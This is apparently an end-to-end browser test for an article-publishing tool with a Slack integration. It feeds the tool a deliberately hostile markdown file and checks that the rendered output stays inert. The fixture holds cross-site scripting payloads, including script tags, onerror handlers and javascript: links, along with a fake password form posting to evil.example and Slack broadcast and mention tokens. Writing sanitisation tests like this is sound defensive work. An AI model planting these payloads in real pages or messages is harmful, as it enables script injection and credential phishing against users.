import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { describeInChromium, launchChromium, openPage } from './chromium.ts';
import { openDemo, type RunningDemo } from './open-demo.ts';
import { writeMessage } from './workspace-page.ts';

const cells = Array.from({ length: 60 }, (_, i) => `column${i}`);
const row = `| ${cells.join(' | ')} |`;
const hostile = `---
title: "Zanzibar <!channel> <script>window.broken = 1</script> <@U0000000000>"
summary: "*Bold* \`code\` <!here> <https://evil.example|click> &lt;!everyone&gt;"
tags: [team]
---

Zanzibar <!channel> &lt;!channel&gt; <@U0000000000> *asterisks* and ~tildes~ stay as they are.

<script>window.broken = 1; alert(1)</script>
<img src=x onerror="window.broken = 1">
<style>body { display: none }</style>
<div style="position:fixed;inset:0" onclick="window.broken = 1"><form action="https://evil.example">
<input name="password"></form>

</div></article></main></body></html>

[a link](javascript:window.broken=1) <a href="javascript:window.broken=1">another</a>
[data](data:text/html,<script>window.broken=1</script>) ![picture](https://evil.example/pixel.png)

<b><i><table><tr><td>broken

## Zanzibar table

${row}
|${'---|'.repeat(cells.length)}
${Array.from({ length: 30 }, () => row).join('\n')}
`;

describeInChromium('a hostile article', () => {
  let contentDir: string;
  let demo: RunningDemo;
  let browser: Browser;

  beforeAll(async () => {
    contentDir = await mkdtemp(join(tmpdir(), 'guidepost-hostile-'));
    await writeFile(join(contentDir, 'zanzibar.md'), hostile);
    [demo, browser] = await Promise.all([openDemo('--content', contentDir), launchChromium()]);
  });
  afterAll(async () => {
    await browser.close();
    await demo.interrupt();
    await rm(contentDir, { recursive: true });
  });

  it('says what it says in Slack and does nothing', async () => {
    const { page, troubles } = await openPage(browser);
    await page.goto(demo.workspace);
    await writeMessage(page, '/guide zanzibar');
    const answer = page.locator('.message.ephemeral', { hasText: 'zanzibar' });
    await answer.getByRole('button', { name: /^Share in this channel/ }).click();
    const shared = page.locator('.message:not(.ephemeral)', { hasText: 'Zanzibar' });
    await shared.waitFor();
    for (const message of [answer, shared]) {
      const text = await message.innerText();
      for (const words of ['<!channel>', '<script>', '<@U0000000000>'])
        expect(text).toContain(words);
      expect(await message.locator('.broadcast').count()).toBe(0);
      expect(await message.locator('.mention', { hasText: 'U0000000000' }).count()).toBe(0);
      for (const link of await message.getByRole('link').all()) {
        expect(await link.getAttribute('href')).toMatch(/^http:\/\/127\.0\.0\.1:/);
      }
    }
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
    expect(troubles).toEqual([]);
  });

  it('says what it says on its page and does nothing', async () => {
    const { page, troubles } = await openPage(browser);
    await page.goto(`${demo.articles}articles/zanzibar`);
    expect(await page.locator('h1').innerText()).toContain('<script>window.broken = 1</script>');
    await page.getByText('another').click();
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
    expect(await page.locator('main script, main form, main style, main [onclick]').count()).toBe(
      0,
    );
    expect(await page.locator('main img').count()).toBe(0);
    expect(await page.getByRole('search').isVisible()).toBe(true);
    const overflows = (selector: string): Promise<boolean[]> =>
      page
        .locator(selector)
        .evaluateAll((all) => all.map(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth));
    expect(await overflows('html')).toEqual([false]);
    expect(await overflows('[aria-label=Table]')).toContain(true);
    expect(troubles).toEqual([]);
  });
});
